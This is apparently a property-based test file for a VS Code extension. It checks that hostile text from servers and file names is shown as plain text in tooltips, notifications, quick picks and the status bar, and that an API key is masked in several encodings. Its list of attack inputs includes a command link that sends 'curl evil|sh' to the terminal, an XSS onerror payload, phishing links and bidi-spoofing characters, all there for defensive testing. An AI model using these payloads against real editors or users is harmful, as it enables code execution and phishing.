import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import type * as NotifierModule from '../../../src/common/notifier';
import { Redactor } from '../../../src/common/logging/redact';
import { codeSpanText, labelText, markdownText, notificationText, oneLine } from '../../../src/common/untrustedText';
import type { WindowPort } from '../../../src/common/windowPort';
import { TOOLTIP_COMMANDS } from '../../../src/keys/noKeyView';
import { statusBarView } from '../../../src/keys/statusBarModel';
import { CANARY_KEY } from '../../canary';
import { fakeL10n } from '../fakes/l10n';
import { loadWithL10n } from './withL10n';

/** What attackers put in index names, file names and server messages. */
const ATTACKS = [
  '[Reveal](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[click](https://evil.example/phish "title")',
  '![pixel](https://evil.example/track.png)',
  '<img src=x onerror=alert(1)>',
  '<a href="command:twelvelabs.setApiKey">Set</a>',
  'https://evil.example/autolink and www.evil.example and someone@evil.example',
  '`code` ``double`` ```fence```',
  'line one\n\n[after a blank line](https://evil.example)',
  '    indented code\n# heading\n- list',
  '\u202Egpj.exe\u202C and \u2066isolate\u2069',
  'bell\u0007 nul\u0000 esc\u001b[31m c1\u0085',
  '$(warning) $(loading~spin) icons',
  '[x]\n(command:twelvelabs.clearApiKey)',
  '&#91;entity&#93;&#40;command:x&#41;',
  '**bold** _em_ ~~strike~~ |table|',
];

const hostile = fc.oneof(
  fc.constantFrom(...ATTACKS),
  fc.array(fc.constantFrom(...ATTACKS, 'text', ' ', '\n', ']', '(', '[', ')', 'command:', 'https://', '!', '<', '>', '`', '$('), { maxLength: 12 }).map((parts) => parts.join('')),
  fc.string({ unit: 'binary', maxLength: 60 }),
);

/** How VS Code's notifications find links in a message: `[label](https…|command:…|file:…)`. */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)\3)?\)/i;

let markdown: { parse(source: string, options: { async: false; gfm: boolean }): string };

/** Renders Markdown with marked, the renderer VS Code's hovers use, GitHub-flavoured as they are. */
function render(source: string): string {
  return markdown.parse(source, { async: false, gfm: true });
}

/** The visible text of rendered HTML: tags dropped, entities decoded. */
function visibleText(html: string): string {
  return html
    .replace(/<[^>]*>/g, '')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&')
    .replace(/\s+/g, ' ')
    .trim();
}

const squash = (text: string) => text.replace(/\s+/g, ' ').trim();

describe('hostile input: outside text is shown as text, on every surface', () => {
  before(async () => {
    // marked ships as an ES module only.
    markdown = (await import('marked')).marked;
  });

  it('in Markdown (tooltips): no link, autolink, image or HTML forms, and the words are all there', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const html = render(`**Index** ${markdownText(text)}`);
        assert.doesNotMatch(html, /<(a|img|script|iframe|h\d|ul|ol|li|pre|table)\b/i, html);
        assert.ok(visibleText(html).includes(squash(oneLine(text))), `${JSON.stringify(text)} → ${html}`);
      }),
      { numRuns: 400 },
    );
  });

  it('inside a code span: it stays one span, whatever it holds', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const html = render(`ID: \`${codeSpanText(text)}\` after`);
        assert.doesNotMatch(html, /<(a|img|h\d|ul|pre)\b/i, html);
        assert.ok((html.match(/<code>/g) ?? []).length <= 1, html);
        // The text after the span is outside it: the span did not swallow it or end early.
        assert.match(html, /(<\/code>|`) after/);
      }),
      { numRuns: 400 },
    );
  });

  it('in notifications: no `[label](target)` link survives, alone or glued to the text around it', () => {
    fc.assert(
      fc.property(hostile, hostile, (first, second) => {
        const shown = notificationText(`Could not delete “${first}”: ${second}`);
        assert.doesNotMatch(shown, NOTIFICATION_LINK, shown);
        assert.doesNotMatch(shown, /[\n\r\u202A-\u202E\u2066-\u2069]/);
        // Nothing is dropped but controls: the reader sees what the server or the file name said.
        assert.equal(shown.replace(/\] \(/g, ']('), oneLine(`Could not delete “${first}”: ${second}`).replace(/\]\s*\(/g, ']('));
      }),
      { numRuns: 400 },
    );
  });

  it('in labels (quick picks): `$(name)` is not drawn as an icon', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        // VS Code draws `$(name)` unless a backslash escapes it.
        assert.doesNotMatch(labelText(text), /(^|[^\\])\$\(/);
      }),
    );
  });

  it('the Notifier masks the key in every encoding and kills links before VS Code sees the message', async () => {
    const shown: string[] = [];
    const record = (message: string, ...rest: unknown[]) => {
      const options = rest[0] as { detail?: string } | undefined;
      shown.push(message, options?.detail ?? '');
      return Promise.resolve(undefined);
    };
    const window = { showInformationMessage: record, showWarningMessage: record, showErrorMessage: record } as unknown as WindowPort;
    const redactor = new Redactor();
    redactor.addSecret(CANARY_KEY);
    // eslint-disable-next-line @typescript-eslint/no-require-imports -- with a vscode that has l10n only
    const { Notifier } = loadWithL10n(() => require('../../../src/common/notifier') as typeof NotifierModule);
    const notifier = new Notifier(window, redactor);
    const base64 = Buffer.from(CANARY_KEY).toString('base64');
    await notifier.show('error', `The API says: ${CANARY_KEY.toUpperCase()} [Fix](command:twelvelabs.setApiKey) ${base64}`);
    await notifier.modal('warning', 'Delete “[x](https://evil.example)”?', `detail ${encodeURIComponent(CANARY_KEY)}\n\nmore`);
    const all = shown.join('\n');
    for (const form of [CANARY_KEY, CANARY_KEY.toUpperCase(), base64, encodeURIComponent(CANARY_KEY)]) {
      assert.ok(!all.includes(form), `${form} reached the window`);
    }
    for (const text of shown) {
      assert.doesNotMatch(text, NOTIFICATION_LINK);
    }
  });

  it('in the status bar tooltip: a hostile validation detail adds no link; only the fixed commands link', () => {
    const now = Date.UTC(2026, 0, 10);
    fc.assert(
      fc.property(hostile, (detail) => {
        const view = statusBarView({
          state: {
            kind: 'present',
            masked: 'tlk_…a1b2',
            id: 'k',
            setAt: now - 86_400_000,
            expiresAt: now + 30 * 86_400_000,
            lastValidation: { at: now, outcome: 'unverified', detail },
            rejectedAt: undefined,
          },
          now,
          settings: { expiryWarningDays: 14, statusBarVisibility: 'always' },
          l10n: fakeL10n,
          formatDateTime: (instant) => new Date(instant).toISOString(),
        });
        const html = render(view.tooltip);
        const hrefs = [...html.matchAll(/<a href="([^"]*)"/g)].map((match) => match[1]);
        for (const href of hrefs) {
          assert.ok(
            TOOLTIP_COMMANDS.some((command) => href === `command:${command}`),
            `the tooltip links to ${href} for detail ${JSON.stringify(detail)}`,
          );
        }
        assert.doesNotMatch(html, /<img\b/i);
      }),
      { numRuns: 300 },
    );
  });
});
